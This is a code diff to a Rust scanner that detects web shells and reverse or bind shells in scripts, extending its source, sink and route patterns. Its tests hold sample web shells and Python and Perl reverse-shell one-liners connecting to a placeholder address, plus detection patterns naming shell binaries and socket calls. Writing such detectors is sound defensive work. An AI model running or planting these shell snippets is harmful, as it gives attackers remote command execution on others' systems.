@@ -4,6 +4,7 @@
 //! Lines are read as assignments and calls. Only a command or a program that the client sends as a whole counts:
 //! applications pass parts of requests as arguments, web shells run them.
 
+use super::super::work;
 use memchr::memmem;
 use regex::bytes::Regex;
 use std::sync::LazyLock;
@@ -40,6 +41,8 @@ const SOURCES: &[&str] = &[
     "urllib.parse.parse_qs",
     "urlparse.parse_qs",
     "querystring.parse",
+    "self.path",
+    "self.rfile.read",
     "$env.query_string",
     "os.environ.query_string",
 ];
@@ -87,22 +90,53 @@ const SINKS: &[&str] = &[
     "io.popen",
     "open3.capture2e",
 ];
-const SOURCE_WORDS: &str = r"request\.|req\.[qbp]|param\(|params|FieldStorage|QUERY_STRING|get_argument|ctx\.|parse_qs|url\.parse|getvalue|getfirst|form\[";
+const SOURCE_WORDS: &str = r"request\.|req\.[qbp]|param\(|params|FieldStorage|QUERY_STRING|get_argument|ctx\.|parse_qs|url\.parse|getvalue|getfirst|form\[|self\.path|self\.rfile";
+/// A decorator with which a framework of Python hands requests to a function, whose parameters come from the client then.
+const ROUTE: &str = r"@\w+\.(?:get|post|put|route|api_route|websocket)\(";
 const SINK_WORDS: &str = r"system|[pP]open|exec|eval|subprocess|spawn|qx|getoutput|Function\(|`";
 /// Words of sources and of sinks, without both of which a script is of no interest.
-static HINTS: LazyLock<[Regex; 2]> =
-    LazyLock::new(|| [SOURCE_WORDS, SINK_WORDS].map(|words| Regex::new(words).expect("a pattern of literals")));
+static HINTS: LazyLock<[Regex; 2]> = LazyLock::new(|| {
+    [&format!("{SOURCE_WORDS}|{ROUTE}"), SINK_WORDS].map(|words| Regex::new(words).expect("a pattern of literals"))
+});
 /// Words of lines that are read: of sources, of sinks and of definitions of functions.
 static INTEREST: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(&format!("{SOURCE_WORDS}|{SINK_WORDS}|def |function |sub ")).expect("a pattern of literals")
+    Regex::new(&format!("{SOURCE_WORDS}|{ROUTE}|{SINK_WORDS}|def |function |sub ")).expect("a pattern of literals")
 });
+/// [`ROUTE`] at the beginning of a line.
+static ROUTED: LazyLock<Regex> = LazyLock::new(|| Regex::new(&format!("^{ROUTE}")).expect("a pattern of literals"));
 /// Most names that are followed.
 const MAX_NAMES: usize = 64;
 /// Longest line that is read.
 const MAX_LINE: usize = 2048;
 
-/// Where a script hands what a client sends to what executes it.
+/// Where a script hands what a client sends to what executes it, or connects a shell with a client.
 pub(super) fn find(content: &[u8]) -> Option<usize> {
+    runs_request(content).or_else(|| gives_shell(content))
+}
+
+/// Where a script makes a connection the input and output of a shell: a reverse or bind shell.
+fn gives_shell(content: &[u8]) -> Option<usize> {
+    /// Calls that replace a standard stream, in Python and in Perl.
+    const REDIRECTIONS: &[&[u8]] = &[b"dup2(", b"open(STDIN"];
+    const SHELLS: &[&[u8]] = &[b"/bin/sh", b"/bin/bash", b"/bin/zsh", b"/bin/dash", b"pty.spawn", b"cmd.exe"];
+    const CONNECTIONS: &[&[u8]] = &[b"socket(", b"socket.socket", b"Socket::INET", b"create_connection("];
+    /// Bytes around a redirection among which the others are.
+    const AROUND: usize = 600;
+    const MOST: usize = 8;
+    REDIRECTIONS.iter().find_map(|call| {
+        memmem::find_iter(content, call).take(MOST).find(|at| {
+            let near = &content[at.saturating_sub(AROUND)..content.len().min(at + AROUND)];
+            let behind = &content[*at..content.len().min(at + 48)];
+            work::count(2 * near.len());
+            let has = |words: &[&[u8]]| words.iter().any(|word| memmem::find(near, word).is_some());
+            let stream = memmem::find(behind, b".fileno()").is_some() || memmem::find(behind, b">&").is_some();
+            stream && has(SHELLS) && has(CONNECTIONS)
+        })
+    })
+}
+
+/// Where a script hands what a client sends to what executes it.
+fn runs_request(content: &[u8]) -> Option<usize> {
     if !HINTS.iter().all(|words| words.is_match(content)) {
         return None;
     }
@@ -146,6 +180,8 @@ struct Script {
     sinks: Vec<String>,
     /// The function that was opened last, and its parameters.
     function: (String, Vec<String>),
+    /// Whether the line before makes the next function one that answers requests.
+    is_routed: bool,
 }
 
 impl Script {
@@ -156,6 +192,7 @@ impl Script {
             return false;
         }
         let tokens = tokens(text);
+        self.is_routed |= ROUTED.is_match(text);
         self.definition(&tokens);
         let found = self.calls(&tokens) || self.is_cgi && self.backticks(text);
         self.assignment(&tokens);
@@ -172,6 +209,10 @@ impl Script {
                 _ => None,
             });
             self.function = (name.to_ascii_lowercase(), parameters.take(8).collect());
+            if std::mem::take(&mut self.is_routed) && self.tainted.len() < MAX_NAMES {
+                // Names of types and defaults are among them, which nothing runs.
+                self.tainted.extend(self.function.1.iter().cloned());
+            }
         }
     }
 
@@ -278,7 +319,9 @@ fn tokens(line: &[u8]) -> Vec<Token<'_>> {
             let is_query = line[at..].len() > 2 && line[at + 1..].iter().take(3).any(|b| *b == b'Q');
             let name = match name {
                 b"$ENV" if is_query => &b"$env.query_string"[..],
-                b"os.environ" if is_query => b"os.environ.query_string",
+                b"os.environ" | b"os.environ.get" | b"environ" | b"environ.get" if is_query => {
+                    b"os.environ.query_string"
+                }
                 name => name,
             };
             out.extend(std::str::from_utf8(name).ok().map(Token::Name));
@@ -308,6 +351,11 @@ mod tests {
             "eval(req.body.code)",
             "#!/usr/bin/perl\n$c = $ENV{QUERY_STRING};\nsystem($c);",
             "require 'sinatra'\nget '/' do\n`#{params[:cmd]}`\nend",
+            "def application(environ, start):\n  c = environ.get('QUERY_STRING', 'x')\n  return [os.popen(c).read()]",
+            "class S(BaseHTTPRequestHandler):\n  def do_GET(self):\n    c = self.path[1:]\n    os.system(c)",
+            "@app.get('/')\ndef shell(c: str = 'x'):\n  return os.popen(c).read()",
+            "import socket,os,subprocess\ns=socket.socket()\ns.connect(('192.0.2.1',9))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])",
+            "use Socket;\nsocket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,\">&S\");exec(\"/bin/sh -i\");",
         ] {
             assert!(find(script.as_bytes()).is_some(), "{script}");
         }
@@ -322,6 +370,10 @@ mod tests {
             "cmd = ['ls']\nsubprocess.run(cmd)\nx = request.args",
             "#!/bin/sh\neval \"$1\"\n# request",
             "db.system.find(req.query)",
+            "@app.get('/')\ndef convert(name: str):\n  return subprocess.run(['convert', name])",
+            "@app.get('/')\ndef a(c: str):\n  return c\n\ndef b(d):\n  return os.popen(d).read()",
+            "os.dup2(null.fileno(), 0)\nos.dup2(null.fileno(), 1)\nos.execv('/bin/sh', ['sh', script])",
+            "class H(BaseHTTPRequestHandler):\n  def do_GET(self):\n    path = self.path\n    os.system('make')",
         ] {
             assert!(find(script.as_bytes()).is_none(), "{script}");
         }
